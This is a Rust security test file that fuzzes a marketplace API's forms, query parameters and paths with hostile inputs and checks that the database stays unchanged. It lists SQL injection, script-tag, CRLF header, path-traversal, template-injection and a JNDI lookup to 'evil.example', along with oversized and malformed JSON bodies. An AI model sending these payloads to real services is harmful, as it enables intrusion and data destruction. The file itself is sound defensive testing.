//! Untrusted input in bodies, queries and paths: has no effect beyond what the form describes. The operations
//! and field names are those of the committed document.

use std::collections::BTreeSet;

use http::Method;
use reqwest::Url;
use serde_json::{Value, json};

use crate::contract::{committed, operations, routes};
use crate::matrix::fields;
use crate::on_both;
use crate::payments;
use crate::site::{Answer, Cookies, Site, fits};
use crate::support::On;

on_both! {
    fields_that_no_form_names_change_nothing,
    text_of_any_kind_harms_nothing_in_a_body,
    text_of_any_kind_harms_nothing_in_an_address,
    bodies_of_any_shape_harm_nothing,
    only_shapes_of_the_contract_are_taken,
}

/// A valid form, with the names of all its fields.
struct Form {
    method: Method,
    path: &'static str,
    body: Value,
    names: BTreeSet<String>,
}

/// Every form of the document; the gateway's notifications take any body.
fn forms() -> Vec<Form> {
    let document = committed();
    let mut all = Vec::new();
    // Of an order that nobody saved.
    let charge =
        json!({"paymentKey": "payment-contract", "orderId": "order-nobodys", "amount": 1_000});
    let charge = (Method::POST, payments::CHARGE, Some(charge));
    for (method, path, body) in routes().into_iter().chain([charge]) {
        let Some(body) = body else { continue };
        let operation = &document["paths"][pattern(path)][method.as_str().to_lowercase()];
        let mut names = BTreeSet::new();
        fields(&document, &operation["requestBody"], &mut names);
        let names = names.into_iter().map(str::to_owned).collect();
        all.push(Form {
            method,
            path,
            body,
            names,
        });
    }
    let with_body = operations(&document).into_iter();
    let with_body = with_body.filter(|(_, path, operation)| {
        operation.get("requestBody").is_some() && !path.starts_with("/hooks/")
    });
    assert_eq!(all.len(), with_body.count());
    all
}

/// The path in the document: a number is an id.
fn pattern(path: &str) -> String {
    let is_id = |part: &str| part.parse::<u32>().is_ok();
    let parts: Vec<_> = path
        .split('/')
        .map(|part| if is_id(part) { "{id}" } else { part })
        .collect();
    parts.join("/")
}

/// A market with the offers that the forms change, and their seller, who is an administrator.
async fn market(on: On) -> (Site, Cookies) {
    let site = Site::start(on).await;
    site.log_in("kakao", 1).await;
    site.sql("update member set role = 'ROLE_ADMIN'").await;
    let one = site.log_in("kakao", 1).await;
    for mut form in forms() {
        if form.method == Method::POST && form.path.starts_with("/api/products/") {
            form.use_little();
            let body = form.body.to_string();
            form.send(&site, &one, body).await.is(200, 0);
        }
    }
    (site, one)
}

impl Form {
    /// Reduces the amounts: a member sells two gigabytes a month.
    fn use_little(&mut self) {
        if let Some(amount) = self.body.get_mut("dataAmount") {
            *amount = json!(0.1);
        }
    }

    /// True for a field that a null leaves out.
    fn may_be_null(&self, name: &str) -> bool {
        (self.path.starts_with("/api/trades/") && name == "dataAmount") || name == "comment"
    }

    /// Sends the form with one field replaced or added.
    async fn send_with(&self, site: &Site, who: &Cookies, name: &str, value: Value) -> Answer {
        let mut body = self.body.clone();
        body[name] = value;
        self.send(site, who, body.to_string()).await
    }

    async fn send(&self, site: &Site, who: &Cookies, body: String) -> Answer {
        let ask = site.ask(self.method.clone(), self.path).by(who);
        ask.header("content-type", "application/json")
            .body(body)
            .send()
            .await
    }
}

/// Text with a special meaning to a database, a browser, a log, a file system or a terminal.
const TEXTS: [&str; 13] = [
    "'; drop table product; --",
    "\" or 1=1 --",
    "%_\\",
    "nul \0 here",
    "\u{202e}gnirts\u{202c}",
    "\u{1f600} \u{1d54f}",
    "<script>alert(1)</script>",
    "=1+1",
    "\r\nset-cookie: a=b",
    "\u{1b}[31mred",
    "../../../etc/passwd",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
];

/// B2: the first front end sends whole rows back, so unknown fields are ignored, and never bound.
async fn fields_that_no_form_names_change_nothing(on: On) {
    let site = Site::start(on).await;
    let (one, _) = (site.log_in("kakao", 1).await, site.log_in("kakao", 2).await);
    let more = json!({
        "id": 77, "itemId": 77, "memberId": 2, "member_id": 2, "sellerId": 2, "seller_id": 2,
        "role": "ROLE_ADMIN", "blocked": 1, "isBlocked": true, "cash": 1_000_000,
        "charged": 1_000_000, "earned": 1_000_000, "state": "SOLD_OUT", "productState": "DELETED",
        "kind": "MOBILE_DATA", "unitPrice": 1, "unit_price": 1, "pricePer100MB": 1,
        "units_sold": 3, "remainAmount": 0.1, "sellerRate": 5_000, "seller_rate": 5_000,
        "averageRate": 5.0, "rating_sum": 50, "rating_count": 1, "createdAt": 1, "updated_at": 1,
        "expires_at": 9_999_999_999_999_i64,
    });
    for (method, path, form) in routes() {
        let is_change = [Method::POST, Method::PUT, Method::PATCH].contains(&method);
        if !is_change || path == "/api/auth/logout" {
            continue;
        }
        let mut body = more.clone();
        for (name, value) in form.iter().flat_map(|form| form.as_object().unwrap()) {
            body[name] = value.clone();
        }
        let answer = site.ask(method, path).by(&one).json(&body).send().await;
        let is_order = path.starts_with("/api/admin/");
        // Always refused here: the picture does not exist, the chat would be with oneself, and so would the
        // purchase, the block and the report.
        let is_impossible = path == "/api/members/profile-image"
            || path.ends_with("/chat-room")
            || path.starts_with("/api/trades/")
            || path.starts_with("/api/reviews/")
            || path.starts_with("/api/report/")
            || path == "/api/members/1/block"
            // Nobody has cash here.
            || path == payments::REFUND;
        match answer.status {
            403 => assert!(is_order, "{path} {answer:?}"),
            400 => assert!(is_impossible, "{path} {answer:?}"),
            status => assert!([200, 204].contains(&status), "{path} {answer:?}"),
        }
    }
    let now = site.now_ms();
    let check = async |expected: i64, what: &str| {
        let found = site.number(&format!("select count(*) from {what}")).await;
        assert_eq!(found, expected, "{what}");
    };
    check(3, "product").await;
    check(
        3,
        "product where id <= 3 and member_id = 1 and state = 'ACTIVE'",
    )
    .await;
    check(
        1,
        "product where kind = 'MOBILE_DATA' and unit_price = 10 and units_left = 10",
    )
    .await;
    check(0, "product where seller_rate > 0 or units_sold > 0").await;
    check(
        0,
        &format!("product where created_at <> {now} or updated_at <> {now}"),
    )
    .await;
    check(0, "wallet where charged + earned > 0").await;
    check(
        0,
        "member where role = 'ROLE_ADMIN' or blocked > 0 or rating_count > 0",
    )
    .await;
    check(1, "member where role = 'ROLE_MEMBER' and id = 1").await;
}

/// F1.
async fn text_of_any_kind_harms_nothing_in_a_body(on: On) {
    let (site, one) = market(on).await;
    let mut kept = 0;
    for form in forms() {
        let long = "\u{ac00}".repeat(20_000);
        for name in &form.names {
            for text in TEXTS.into_iter().chain([long.as_str()]) {
                let answer = form.send_with(&site, &one, name, json!(text)).await;
                let is_fine = [200, 400].contains(&answer.status);
                assert!(is_fine, "{} {name} {text:.40} {answer:?}", form.path);
                if answer.status == 200 && form.method == Method::PUT {
                    let path = format!("{}/{}", form.path, form.body["productId"]);
                    let found = site.data(&one, &path).await;
                    assert_eq!(found[name], text.trim(), "{path}");
                    kept += 1;
                }
            }
            let answer = form.send_with(&site, &one, name, json!([TEXTS[0]])).await;
            assert_eq!(answer.status, 400, "{} {name} {answer:?}", form.path);
        }
    }
    // Title, content, address; two kinds; each text except the one with a NUL and the long one.
    assert_eq!(kept, 3 * 2 * 12);
    assert_eq!(site.number("select count(*) from member").await, 1);
}

/// F1, E2: a parameter or a part of the path.
async fn text_of_any_kind_harms_nothing_in_an_address(on: On) {
    let (site, one) = market(on).await;
    let numbers = [
        "1000000000",
        "0",
        "-1",
        "1e9",
        "1.0",
        "NaN",
        "inf",
        "0x10",
        "\u{ff11}",
        " 1",
        "2147483648",
        "9007199254740993",
        "99999999999999999999999",
    ];
    let document = committed();
    let working = routes();
    let mut pages = 0;
    for (method, pattern, operation) in operations(&document) {
        let as_it_works = working
            .iter()
            .find(|(m, path, _)| *m == method && fits(&pattern, path.split('?').next().unwrap()));
        let path = as_it_works.map_or(pattern.as_str(), |(_, path, _)| path);
        let parameters = operation["parameters"].as_array().into_iter().flatten();
        for parameter in parameters {
            let name = parameter["name"].as_str().unwrap();
            for text in TEXTS.into_iter().chain(numbers) {
                let url = if parameter["in"] == "path" {
                    with_part(&site, &pattern, path, text)
                } else {
                    with_query(&site, path, name, text)
                };
                let ask = site.ask_url(method.clone(), url.as_str()).by(&one);
                let answer = ask.header("cookie", BROWSER).send().await;
                check_address(&answer, &format!("{method} {url}"));
                if name == "size" {
                    let (status, code) = as_a_size(text);
                    answer.is(status, code);
                    pages += 1;
                }
            }
        }
    }
    assert!(pages >= 5 * (TEXTS.len() + numbers.len()), "{pages}");
    assert_eq!(site.number("select count(*) from member").await, 1);
}

/// The page size that a text parses to: bounded by the maximum.
fn as_a_size(text: &str) -> (u16, u64) {
    let is_number = text.bytes().all(|byte| byte.is_ascii_digit());
    let is_one_or_more = text.bytes().any(|byte| (b'1'..=b'9').contains(&byte));
    if is_number && is_one_or_more {
        (200, 0)
    } else {
        (400, 1006)
    }
}

/// The cookie of a browser that has begun a login.
const BROWSER: &str = "loginAttempt=0123456789012345678901234567890123456789012";

/// The response is no server error, also when it is a redirect to the front end.
fn check_address(answer: &Answer, what: &str) {
    match answer.status {
        302 => {
            let to = answer.location();
            let is_begun = to.contains("response_type=code");
            // The callback of an old attempt ends in the session.
            let is_told = ["=2006", "=2009", "/data", "?on-boarding=true"];
            let is_told = is_told.iter().any(|end| to.ends_with(end));
            assert!(is_begun || is_told, "{what} {answer:?}");
        }
        status => assert!([200, 400, 403, 404].contains(&status), "{what} {answer:?}"),
    }
}

/// The path with this text in place of its parameter.
fn with_part(site: &Site, pattern: &str, path: &str, text: &str) -> Url {
    let mut url: Url = format!("{}{path}", site.base).parse().unwrap();
    let parts = pattern.trim_start_matches('/').split('/');
    url.path_segments_mut()
        .unwrap()
        .clear()
        .extend(parts.map(|part| if part.starts_with('{') { text } else { part }));
    url
}

/// The address with this parameter in its query.
fn with_query(site: &Site, path: &str, name: &str, text: &str) -> Url {
    let path = path.replace("{provider}", "kakao");
    let mut url: Url = format!("{}{path}", site.base).parse().unwrap();
    let pairs = url.query_pairs().into_owned();
    let mut pairs: Vec<_> = pairs.filter(|(known, _)| known != name).collect();
    pairs.push((name.to_owned(), text.to_owned()));
    url.query_pairs_mut().clear().extend_pairs(pairs);
    url
}

/// E2: deeply nested, wide and malformed bodies. An unknown field may have any value within the nesting limit.
async fn bodies_of_any_shape_harm_nothing(on: On) {
    let (site, one) = market(on).await;
    let deep = ["[".repeat(10_000), "]".repeat(10_000)].concat();
    let nested = ["{\"a\":".repeat(10_000), "0".to_owned(), "}".repeat(10_000)].concat();
    let wide = json!(vec![0; 10_000]).to_string();
    for mut form in forms() {
        form.use_little();
        let whole = form.body.to_string();
        let plain = form.send(&site, &one, whole.clone()).await;
        for shape in [&deep, &nested, &wide] {
            let more = added(&form.body, "unknown", shape);
            let answer = form.send(&site, &one, more).await;
            let is_refused = answer.status == 400 && shape != &wide;
            assert!(
                answer.status == plain.status || is_refused,
                "{} {answer:?}",
                form.path
            );
            form.send(&site, &one, shape.clone()).await.is(400, 1006);
            for name in &form.names {
                let body = added(&form.body, name, shape);
                let answer = form.send(&site, &one, body).await;
                assert_eq!(answer.status, 400, "{} {name} {answer:?}", form.path);
            }
        }
        let twice = format!("{},{}", whole.trim_end_matches('}'), &whole[1..]);
        for odd in [
            "", "{", "\0", "null", "7", "\"a\"", "NaN", "1e400", "{}x", &twice,
        ] {
            form.send(&site, &one, odd.to_owned()).await.is(400, 1006);
        }
    }
}

/// Objects whose fields have the contract's types: no arrays, no texts for numbers, no fractions for whole
/// numbers.
async fn only_shapes_of_the_contract_are_taken(on: On) {
    let (site, one) = market(on).await;
    let made = "select count(*) from product";
    let before = site.number(made).await;
    let offer = |body: &str| {
        let ask = site.ask(Method::POST, "/api/products/mobile-data");
        ask.by(&one).body(body.to_owned()).send()
    };
    offer("[100,0.1,true]").await.is(400, 1006);
    for form in forms() {
        let fields = form.body.as_object().unwrap();
        let values: Vec<_> = fields.values().cloned().collect();
        let listed = [json!(values), json!([form.body]), json!({"0": form.body})];
        for body in listed {
            let answer = form.send(&site, &one, body.to_string()).await;
            assert_eq!(
                (answer.status, answer.code()),
                (400, 1006),
                "{} {body}",
                form.path
            );
        }
        for (name, value) in fields.iter().filter(|(name, _)| form.names.contains(*name)) {
            for odd in not_of_the_type(name, value) {
                if odd == "null" && form.may_be_null(name) {
                    continue;
                }
                let answer = form.send(&site, &one, added(&form.body, name, &odd)).await;
                let told = (answer.status, answer.code());
                assert_eq!(told, (400, 1006), "{} {name} {odd}", form.path);
            }
        }
    }
    assert_eq!(site.number(made).await, before);
}

/// JSON values that a field of this type cannot hold.
fn not_of_the_type(name: &str, value: &Value) -> Vec<String> {
    let is_fraction = [
        "dataAmount",
        "totalAmount",
        "changedAmount",
        "latitude",
        "longitude",
        "rating",
    ]
    .contains(&name);
    let mut odd = vec![json!([value]), json!({ "value": value }), json!(null)];
    match value {
        Value::Number(number) => odd.extend([json!(number.to_string()), json!(true)]),
        Value::String(_) => odd.extend([json!(7), json!(false)]),
        Value::Bool(_) => odd.extend([json!("true"), json!(1)]),
        Value::Array(_) => odd.extend([json!("a.png"), json!([7]), json!([null])]),
        Value::Null | Value::Object(_) => {}
    }
    let mut odd: Vec<_> = odd.iter().map(Value::to_string).collect();
    if value.is_number() && !is_fraction {
        odd.extend(["1.0", "1e2", "1.5", "99999999999999999999"].map(str::to_owned));
    }
    odd
}

/// The object with one more field, or with another raw value for an existing one.
fn added(object: &Value, name: &str, value: &str) -> String {
    let mut rest = object.clone();
    rest[name] = Value::Null;
    rest.to_string()
        .replace(&format!("\"{name}\":null"), &format!("\"{name}\":{value}"))
}
